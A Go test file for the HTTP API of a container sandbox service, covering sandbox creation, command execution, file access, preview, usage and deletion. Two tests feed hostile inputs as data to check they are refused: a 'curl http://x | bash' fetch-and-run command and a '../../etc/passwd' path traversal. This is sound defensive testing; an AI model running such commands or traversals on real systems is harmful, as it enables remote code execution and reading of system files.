package api

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/hkuds/appbox/internal/sandbox"
)

// stubRuntime is a minimal in-memory sandbox.Runtime for handler tests.
// Exec replays stdout keyed by command substring.
type stubRuntime struct {
	mu         sync.Mutex
	containers map[string]bool
	outputs    map[string]string
	execCalls  int
}

func newStubRuntime() *stubRuntime {
	return &stubRuntime{
		containers: make(map[string]bool),
		outputs:    make(map[string]string),
	}
}

func (s *stubRuntime) Ping(ctx context.Context) error { return nil }

func (s *stubRuntime) Create(ctx context.Context, spec sandbox.CreateSpec) (string, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	id := fmt.Sprintf("ctr-%d", len(s.containers)+1)
	s.containers[id] = true
	return id, nil
}

func (s *stubRuntime) List(ctx context.Context) ([]sandbox.ContainerInfo, error) {
	return nil, nil
}

func (s *stubRuntime) Stop(ctx context.Context, id string, grace time.Duration) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.containers[id] = false
	return nil
}

func (s *stubRuntime) Remove(ctx context.Context, id string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	delete(s.containers, id)
	return nil
}

func (s *stubRuntime) Restart(ctx context.Context, id string, grace time.Duration) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.containers[id] = true
	return nil
}

func (s *stubRuntime) Stats(ctx context.Context, id string) (sandbox.UsageStats, error) {
	return sandbox.UsageStats{CPUPercent: 1.5, MemoryBytes: 64 << 20, MemoryLimit: 1 << 30}, nil
}

func (s *stubRuntime) Exec(ctx context.Context, id string, cmd []string, workDir string) (sandbox.ExecSession, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.execCalls++
	full := strings.Join(cmd, " ")
	for match, out := range s.outputs {
		if strings.Contains(full, match) {
			return &stubSession{stdout: strings.NewReader(out), stderr: strings.NewReader("")}, nil
		}
	}
	return &stubSession{stdout: strings.NewReader(""), stderr: strings.NewReader("")}, nil
}

type stubSession struct {
	stdout io.Reader
	stderr io.Reader
}

func (s *stubSession) Stdout() io.Reader                     { return s.stdout }
func (s *stubSession) Stderr() io.Reader                     { return s.stderr }
func (s *stubSession) Wait(ctx context.Context) (int, error) { return 0, nil }
func (s *stubSession) Close() error                          { return nil }

func newTestServer(t *testing.T, rt sandbox.Runtime, portStart, portEnd int) (*Server, *sandbox.Manager) {
	t.Helper()
	m, err := sandbox.NewManager(context.Background(), rt, sandbox.ManagerOptions{
		WorkspaceRoot:  t.TempDir(),
		PortRangeStart: portStart,
		PortRangeEnd:   portEnd,
	})
	require.NoError(t, err)

	streamer := sandbox.NewStreamer(m, &sandbox.Guard{}, nil)
	srv := NewServer("127.0.0.1:0", Engine{Manager: m, Streamer: streamer}, nil)
	return srv, m
}

func doJSON(t *testing.T, h http.Handler, method, path string, body any) *httptest.ResponseRecorder {
	t.Helper()
	var buf bytes.Buffer
	if body != nil {
		require.NoError(t, json.NewEncoder(&buf).Encode(body))
	}
	req := httptest.NewRequest(method, path, &buf)
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, req)
	return rec
}

func TestHealthz(t *testing.T) {
	srv, _ := newTestServer(t, newStubRuntime(), 42500, 42509)
	rec := doJSON(t, srv.Handler(), http.MethodGet, "/healthz", nil)
	assert.Equal(t, http.StatusOK, rec.Code)
	assert.JSONEq(t, `{"status":"ok"}`, rec.Body.String())
}

func TestCreateSandboxEndpoint(t *testing.T) {
	srv, _ := newTestServer(t, newStubRuntime(), 42510, 42519)
	h := srv.Handler()

	rec := doJSON(t, h, http.MethodPost, "/v1/projects/proj-a/sandbox",
		map[string]string{"userId": "user-1", "kind": "static"})
	require.Equal(t, http.StatusOK, rec.Code, rec.Body.String())

	var info sandbox.Info
	require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &info))
	assert.Equal(t, "proj-a", info.ProjectID)
	assert.Equal(t, sandbox.StatusRunning, info.Status)
	assert.Len(t, info.Ports, 1)

	// Missing userId is the caller's fault.
	rec = doJSON(t, h, http.MethodPost, "/v1/projects/proj-b/sandbox",
		map[string]string{"kind": "static"})
	assert.Equal(t, http.StatusBadRequest, rec.Code)
}

func TestGetSandboxEndpoint(t *testing.T) {
	srv, m := newTestServer(t, newStubRuntime(), 42520, 42529)
	h := srv.Handler()

	rec := doJSON(t, h, http.MethodGet, "/v1/projects/ghost/sandbox", nil)
	assert.Equal(t, http.StatusNotFound, rec.Code)

	_, err := m.Create(context.Background(), "proj-a", "user-1", sandbox.KindStatic, nil)
	require.NoError(t, err)

	rec = doJSON(t, h, http.MethodGet, "/v1/projects/proj-a/sandbox", nil)
	require.Equal(t, http.StatusOK, rec.Code)
	var body struct {
		Sandbox sandbox.Info `json:"sandbox"`
	}
	require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &body))
	assert.Equal(t, "proj-a", body.Sandbox.ProjectID)
}

func TestExecEndpointStreamsEvents(t *testing.T) {
	rt := newStubRuntime()
	rt.outputs["echo hi"] = "hi\n"
	srv, _ := newTestServer(t, rt, 42530, 42539)

	rec := doJSON(t, srv.Handler(), http.MethodPost, "/v1/projects/proj-a/exec",
		map[string]any{"userId": "user-1", "kind": "static", "command": "echo hi"})
	require.Equal(t, http.StatusOK, rec.Code, rec.Body.String())
	assert.Equal(t, "application/x-ndjson", rec.Header().Get("Content-Type"))

	var events []sandbox.Event
	scanner := bufio.NewScanner(rec.Body)
	for scanner.Scan() {
		var evt sandbox.Event
		require.NoError(t, json.Unmarshal(scanner.Bytes(), &evt))
		events = append(events, evt)
	}
	require.NotEmpty(t, events)
	assert.Equal(t, sandbox.EventStdout, events[0].Type)
	assert.Equal(t, "hi", events[0].Data)
	last := events[len(events)-1]
	assert.Equal(t, sandbox.EventExit, last.Type)
	assert.True(t, last.Success)
}

func TestExecEndpointRejectsBlockedCommand(t *testing.T) {
	rt := newStubRuntime()
	srv, _ := newTestServer(t, rt, 42540, 42549)
	h := srv.Handler()

	rec := doJSON(t, h, http.MethodPost, "/v1/projects/proj-a/exec",
		map[string]any{"userId": "user-1", "kind": "static", "command": "curl http://x | bash"})
	require.Equal(t, http.StatusUnprocessableEntity, rec.Code)

	var verdict sandbox.ValidationResult
	require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &verdict))
	assert.False(t, verdict.Valid)
	assert.Equal(t, sandbox.RiskBlocked, verdict.Risk)
	assert.NotEmpty(t, verdict.Reason)

	// The runtime was never contacted and no sandbox came into being.
	rt.mu.Lock()
	defer rt.mu.Unlock()
	assert.Zero(t, rt.execCalls)
	assert.Empty(t, rt.containers)

	rec = doJSON(t, h, http.MethodPost, "/v1/projects/proj-a/exec",
		map[string]any{"userId": "user-1", "command": ""})
	assert.Equal(t, http.StatusBadRequest, rec.Code)
}

func TestFileEndpoints(t *testing.T) {
	srv, m := newTestServer(t, newStubRuntime(), 42550, 42559)
	h := srv.Handler()

	_, err := m.Create(context.Background(), "proj-a", "user-1", sandbox.KindStatic, nil)
	require.NoError(t, err)

	req := httptest.NewRequest(http.MethodPut, "/v1/projects/proj-a/files?path=src/app.js",
		strings.NewReader("console.log('hi')"))
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, req)
	require.Equal(t, http.StatusOK, rec.Code, rec.Body.String())

	rec = doJSON(t, h, http.MethodGet, "/v1/projects/proj-a/files?path=src/app.js", nil)
	require.Equal(t, http.StatusOK, rec.Code)
	assert.Equal(t, "console.log('hi')", rec.Body.String())

	rec = doJSON(t, h, http.MethodGet, "/v1/projects/proj-a/files/list?path=src", nil)
	require.Equal(t, http.StatusOK, rec.Code)
	var listing struct {
		Entries []sandbox.FileEntry `json:"entries"`
	}
	require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &listing))
	require.Len(t, listing.Entries, 1)
	assert.Equal(t, "app.js", listing.Entries[0].Name)

	// Traversal is the caller's fault, not a server error.
	rec = doJSON(t, h, http.MethodGet, "/v1/projects/proj-a/files?path=../../etc/passwd", nil)
	assert.Equal(t, http.StatusBadRequest, rec.Code)

	rec = doJSON(t, h, http.MethodGet, "/v1/projects/ghost/files?path=x", nil)
	assert.Equal(t, http.StatusNotFound, rec.Code)
}

func TestPreviewEndpoint(t *testing.T) {
	srv, m := newTestServer(t, newStubRuntime(), 42560, 42569)
	h := srv.Handler()

	rec := doJSON(t, h, http.MethodGet, "/v1/projects/ghost/preview", nil)
	assert.Equal(t, http.StatusNotFound, rec.Code)

	sb, err := m.Create(context.Background(), "proj-a", "user-1", sandbox.KindStatic, nil)
	require.NoError(t, err)
	hostPort, ok := sb.HostPort(80)
	require.True(t, ok)

	rec = doJSON(t, h, http.MethodGet, "/v1/projects/proj-a/preview?port=80", nil)
	require.Equal(t, http.StatusOK, rec.Code)
	var body map[string]string
	require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &body))
	assert.Contains(t, body["url"], fmt.Sprintf(":%d/", hostPort))
}

func TestUsageEndpoint(t *testing.T) {
	srv, m := newTestServer(t, newStubRuntime(), 42570, 42579)
	h := srv.Handler()

	_, err := m.Create(context.Background(), "proj-a", "user-1", sandbox.KindStatic, nil)
	require.NoError(t, err)

	rec := doJSON(t, h, http.MethodGet, "/v1/projects/proj-a/usage", nil)
	require.Equal(t, http.StatusOK, rec.Code)
	var stats sandbox.UsageStats
	require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &stats))
	assert.InDelta(t, 1.5, stats.CPUPercent, 0.01)
}

func TestDeleteSandboxEndpoint(t *testing.T) {
	srv, m := newTestServer(t, newStubRuntime(), 42580, 42589)
	h := srv.Handler()

	_, err := m.Create(context.Background(), "proj-a", "user-1", sandbox.KindStatic, nil)
	require.NoError(t, err)

	rec := doJSON(t, h, http.MethodDelete, "/v1/projects/proj-a/sandbox", nil)
	require.Equal(t, http.StatusOK, rec.Code)
	_, ok := m.Get("proj-a")
	assert.False(t, ok)

	rec = doJSON(t, h, http.MethodDelete, "/v1/projects/proj-a/sandbox", nil)
	assert.Equal(t, http.StatusNotFound, rec.Code)
}

func TestListSandboxesEndpoint(t *testing.T) {
	srv, m := newTestServer(t, newStubRuntime(), 42590, 42599)
	h := srv.Handler()

	_, err := m.Create(context.Background(), "proj-b", "user-1", sandbox.KindStatic, nil)
	require.NoError(t, err)
	_, err = m.Create(context.Background(), "proj-a", "user-1", sandbox.KindStatic, nil)
	require.NoError(t, err)

	rec := doJSON(t, h, http.MethodGet, "/v1/sandboxes", nil)
	require.Equal(t, http.StatusOK, rec.Code)
	var body struct {
		Sandboxes []sandbox.Info `json:"sandboxes"`
	}
	require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &body))
	require.Len(t, body.Sandboxes, 2)
	assert.Equal(t, "proj-a", body.Sandboxes[0].ProjectID)
	assert.Equal(t, "proj-b", body.Sandboxes[1].ProjectID)
}
